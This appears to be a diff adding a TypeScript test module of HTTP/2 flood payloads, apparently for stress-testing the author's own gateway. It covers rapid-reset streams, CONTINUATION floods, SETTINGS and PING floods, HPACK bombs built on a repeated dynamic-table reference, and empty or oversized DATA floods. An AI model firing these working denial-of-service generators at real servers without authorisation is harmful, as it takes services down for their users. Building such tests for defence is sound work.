@@ -1,0 +1,89 @@
+// HTTP/2 floods: streams reset at once, and frames that cost the gateway more than their sender.
+
+import { data, frame, openStream, openStreamInParts, ping, resetStream, settings } from "../frames.ts";
+import { flood } from "./http2-connections.ts";
+import { framesOf, get, LOGIN_BODY, login } from "./requests.ts";
+
+const CONTINUATION = 0x9;
+const HEADERS = 0x1;
+const END_STREAM_AND_HEADERS = 0x5;
+/** Node takes stream numbers up to 2^31. */
+const STREAMS = 10_000;
+const PAGE = 16 * 1024;
+
+function repeat(size: number, make: (index: number) => Buffer): Buffer {
+  return Buffer.concat(Array.from({ length: size }, (_, index) => make(index)));
+}
+
+const streamOf = (unit: number): number => 2 * unit + 1;
+
+/** A literal with incremental indexing (RFC 7541, section 6.2.1), name and value shorter than 127 bytes each. */
+function indexed(name: string, value: string): Buffer {
+  return Buffer.concat([Buffer.of(0x40, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
+}
+
+/** `:method: GET`, `:scheme: http`, `:path: /` of the static table, then a field that enters the dynamic one. */
+const ENTRY = Buffer.concat([Buffer.of(0x82, 0x86, 0x84), indexed("x".repeat(100), "y".repeat(120))]);
+/** The newest entry of the dynamic table: a byte that stands for 220. */
+const NEWEST = 0xbe;
+
+function bomb(unit: number): Buffer {
+  const head = unit === 0 ? ENTRY : ENTRY.subarray(0, 3);
+  return frame(
+    HEADERS,
+    END_STREAM_AND_HEADERS,
+    streamOf(unit),
+    Buffer.concat([head, Buffer.alloc(PAGE - 400, NEWEST)]),
+  );
+}
+
+/** By attack; the count is of streams or frames. */
+export const FLOODS = {
+  "rapid-reset": flood({
+    size: 100,
+    unitsPerConnection: STREAMS,
+    batch: (first, size) =>
+      repeat(size, (index) => {
+        const stream = streamOf(first + index);
+        const request = (first + index) % 2 === 0 ? login() : get("/openapi.json");
+        return Buffer.concat([framesOf(stream, request), resetStream(stream)]);
+      }),
+  }),
+  "continuation-flood": flood({
+    size: 50,
+    batch: (first, size) => {
+      const [head] = openStreamInParts(1, get("/auth/time").headers);
+      const flood = repeat(size, (index) =>
+        frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
+      );
+      return first === 0 ? Buffer.concat([head, flood]) : flood;
+    },
+  }),
+  "settings-flood": flood({ size: 500, batch: (_, size) => repeat(size, () => settings(65_535)) }),
+  "settings-flood-unread": flood({ size: 500, reads: false, batch: (_, size) => repeat(size, () => settings(1)) }),
+  "ping-flood": flood({ size: 500, batch: (_, size) => repeat(size, ping) }),
+  "ping-flood-unread": flood({ size: 500, reads: false, batch: (_, size) => repeat(size, ping) }),
+  "hpack-bombs": flood({
+    size: 10,
+    unitsPerConnection: STREAMS,
+    batch: (first, size) => repeat(size, (index) => bomb(first + index)),
+  }),
+  "empty-data": flood({
+    size: 500,
+    batch: (first, size) => {
+      const empty = repeat(size, () => data(1, Buffer.alloc(0), false));
+      return first === 0 ? Buffer.concat([openStream(1, login().headers, false), empty]) : empty;
+    },
+  }),
+  // More than a login may have, on streams that the window still lets through.
+  "data-flood": flood({
+    size: 4,
+    unitsPerConnection: STREAMS,
+    batch: (first, size) =>
+      repeat(size, (index) => {
+        const stream = streamOf(first + index);
+        const page = Buffer.alloc(PAGE, LOGIN_BODY);
+        return Buffer.concat([openStream(stream, login().headers, false), data(stream, page, false)]);
+      }),
+  }),
+};
